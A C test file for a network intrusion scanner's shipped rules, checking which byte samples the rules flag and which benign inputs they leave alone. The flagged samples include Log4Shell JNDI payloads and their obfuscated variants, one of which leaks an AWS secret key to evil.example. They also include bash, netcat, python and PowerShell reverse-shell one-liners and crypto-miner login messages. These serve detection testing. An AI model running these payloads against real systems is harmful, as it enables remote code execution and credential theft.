/* SPDX-License-Identifier: BSD-3-Clause */
/* The rules that weir ships: what they find, in one piece and byte by byte, and what they leave. */
#include "scan_test.h"

#include <stdio.h>

Suite *scan_set_suite(void);

static struct weir_scan_db *load_set(void)
{
	const char *paths[] = {WEIR_RULES};
	struct weir_conf_report *r = weir_conf_report_create();
	struct weir_scan_cfg cfg = {
		.paths = paths, .n_paths = 1, .n_workers = 1, .streams = 1, .names = names()};
	struct weir_scan_db *db;

	ck_assert_int_eq(weir_scan_load(&cfg, r, &db), 0);
	ck_assert_uint_eq(weir_conf_errors(r) + weir_conf_warnings(r), 0);
	weir_conf_report_destroy(r);
	return db;
}

/* A literal's own length counts, so that zero bytes may be inside. */
#define B(text) text, sizeof(text) - 1

struct sample {
	uint8_t direction;
	const char *bytes;
	size_t len;
	uint32_t id; /* one that must be found; 0: none may be */
};

static const struct sample samples[] = {
	{WEIR_SCAN_TO_SERVER, B("GET /?q=${jndi:ldap://evil.example/a} HTTP/1.1\r\n"), 1001},
	{WEIR_SCAN_TO_SERVER, B("User-Agent: ${JnDi:RmI://evil.example:1099/a}\r\n"), 1001},
	{WEIR_SCAN_TO_SERVER, B("X: ${jndi:dns://10.0.0.1/${env:AWS_SECRET_ACCESS_KEY}}\r\n"),
	 1001},
	{WEIR_SCAN_TO_SERVER, B("{\"a\":\"${ jndi : ldaps://x/a}\"}"), 1001},
	{WEIR_SCAN_TO_SERVER, B("${${lower:j}ndi:ldap://evil.example/a}"), 1002},
	{WEIR_SCAN_TO_SERVER, B("${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x/a}"), 1002},
	{WEIR_SCAN_TO_SERVER, B("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}"), 1002},
	{WEIR_SCAN_TO_SERVER, B("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}"), 1003},
	{WEIR_SCAN_TO_SERVER, B("${j${lower:n}d${lower:i}:ldap://x/a}"), 1003},
	{WEIR_SCAN_TO_SERVER, B("${${a:-x}${b:-y}ndi:ldap://evil.example/a}"), 1004},
	{WEIR_SCAN_TO_SERVER, B("GET /?x=%24%7Bjndi%3Aldap%3A//evil/a HTTP/1.1"), 1005},
	{WEIR_SCAN_TO_SERVER, B("{\"x\":\"\\u0024\\u007bjndi:ldap://x/a}\"}"), 1006},
	{WEIR_SCAN_TO_SERVER, B("\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00"), 1101},
	{WEIR_SCAN_TO_SERVER,
	 B("\x30\x25\x02\x01\x02\x63\x20\x04\x01\x61\x0a\x01\x00\x0a\x01\x03\x02\x01\x00"), 1102},
	{WEIR_SCAN_TO_CLIENT,
	 B("\x30\x81\x80\x02\x01\x02\x64\x7b\x04\x01\x61\x30\x76\x30\x1a\x04\x0d"
	   "javaClassName\x31\x09"),
	 1103},
	{WEIR_SCAN_TO_SERVER, B("JRMI\x00\x02K"), 1111},
	{WEIR_SCAN_TO_SERVER, B("\xac\xed\x00\x05sr\x00\x11java.util.HashMap"), 1112},
	{WEIR_SCAN_TO_SERVER, B("GIOP\x01\x02\x01\x00\x00\x00\x00\x50"), 1121},
	{WEIR_SCAN_TO_SERVER, B("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"), 1201},
	{WEIR_SCAN_TO_SERVER, B("nc -nv 10.0.0.1 4444 -e /bin/sh\n"), 1202},
	{WEIR_SCAN_TO_SERVER,
	 B("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1>/tmp/f"), 1203},
	{WEIR_SCAN_TO_SERVER,
	 B("python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'"),
	 1204},
	{WEIR_SCAN_TO_SERVER,
	 B("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu"),
	 1205},
	{WEIR_SCAN_TO_SERVER, B("$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443)"),
	 1206},
	{WEIR_SCAN_TO_SERVER,
	 B("bash: cannot set terminal process group (1): Inappropriate ioctl for device\n"), 1211},
	{WEIR_SCAN_TO_SERVER, B("Microsoft Windows [Version 10.0.19045.1]\r\n"), 1212},
	{WEIR_SCAN_TO_SERVER, B("uid=0(root) gid=0(root) groups=0(root)\n"), 1213},
	{WEIR_SCAN_TO_SERVER, B("{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}\n"),
	 1301},
	{WEIR_SCAN_TO_SERVER,
	 B("{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4\",\"agent\":\"XMRig/"
	   "6.16\"}}\n"),
	 1302},
	{WEIR_SCAN_TO_SERVER, B("{\"id\":2,\"method\":\"eth_submitLogin\"}\n"), 1303},
	{WEIR_SCAN_TO_SERVER, B("\x00\x00\x00\x54\xffSMBr\x00\x00"), 1401},
	{WEIR_SCAN_TO_SERVER, B("\x00\x00\x00\x54\xfeSMB\x40\x00\x00"), 1402},

	{WEIR_SCAN_TO_CLIENT, B("${jndi:ldap://evil.example/a}"), 0}, /* of an answer */
	{WEIR_SCAN_TO_SERVER, B("GET /docs/jndi/ldap.html HTTP/1.1\r\nHost: a.example\r\n\r\n"), 0},
	{WEIR_SCAN_TO_SERVER, B("echo ${HOME}/${USER:-nobody}: ${PATH}"), 0},
	{WEIR_SCAN_TO_SERVER, B("const s = `${a}:${b} ${c.map(x => `${x}`)}`;"), 0},
	{WEIR_SCAN_TO_SERVER, B("price: ${price:-0}, name: ${name} (json: {\"a\": 1})"), 0},
	{WEIR_SCAN_TO_SERVER, B("POST /a HTTP/1.1\r\nContent-Length: 9\r\n\r\nuid=0&gid="), 0},
	{WEIR_SCAN_TO_SERVER, B("run ./install.sh -i, then ssh -i key host > /dev/null"), 0},
	{WEIR_SCAN_TO_SERVER, B("the nc command and the -e flag of sh are two things"), 0},
	{WEIR_SCAN_TO_SERVER,
	 B("{\"method\":\"login\",\"params\":{\"user\":\"a\",\"agent\":\"firefox\"}}"), 0},
	{WEIR_SCAN_TO_SERVER, B("{\"jsonrpc\":\"2.0\",\"method\":\"eth_call\"}"), 0},
	{WEIR_SCAN_TO_SERVER, B("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"), 0},
	{WEIR_SCAN_TO_SERVER, B("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"), 0},
	{WEIR_SCAN_TO_SERVER, B("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 0},
	{WEIR_SCAN_TO_SERVER, B("import socket\nprint(socket.gethostname())\n"), 0},
	{WEIR_SCAN_TO_SERVER, B("powershell -File build.ps1 -Encoding utf8"), 0},
};

/* Feeds in pieces of `step`; tells whether `id` was found (0: whether anything was). */
static bool finds(struct weir_scan_db *db, const struct sample *s, size_t step, uint32_t id)
{
	struct weir_scan_stream stream;
	struct weir_scan_match m[8];
	bool found = false, stop = false;
	unsigned int more;

	ck_assert_int_eq(weir_scan_open(&stream, db, 0, s->direction, 8080), 0);
	for (size_t at = 0; at < s->len && !stop; at += step) {
		size_t n = s->len - at < step ? s->len - at : step;
		int got = weir_scan_feed(&stream,
					 (struct weir_bytes){(const uint8_t *)s->bytes + at, n}, m,
					 8, &more, &stop);

		for (int i = 0; i < got; i++)
			found |= id == 0 || weir_scan_rule(db, m[i].rule)->id == id;
	}
	weir_scan_close(&stream);
	return found;
}

/* A lookup may stop by another rule of its family first. */
static bool is_found(struct weir_scan_db *db, const struct sample *s, size_t step)
{
	if (s->id >= 1001 && s->id <= 1006)
		for (uint32_t id = 1001; id <= 1006; id++)
			if (finds(db, s, step, id))
				return true;
	return finds(db, s, step, s->id);
}

START_TEST(samples_are_found_and_what_is_harmless_is_not)
{
	struct weir_scan_db *db = load_set();

	for (size_t i = 0; i < WEIR_ARRAY_LEN(samples); i++)
		for (size_t step = samples[i].len; step; step = step > 1 ? 1 : 0)
			ck_assert_msg(is_found(db, &samples[i], step) == (samples[i].id != 0),
				      "sample %zu in steps of %zu: %.40s", i, step,
				      samples[i].bytes);
	put(db);
}
END_TEST

Suite *scan_set_suite(void)
{
	return WEIR_SUITE("scan set", samples_are_found_and_what_is_harmless_is_not);
}
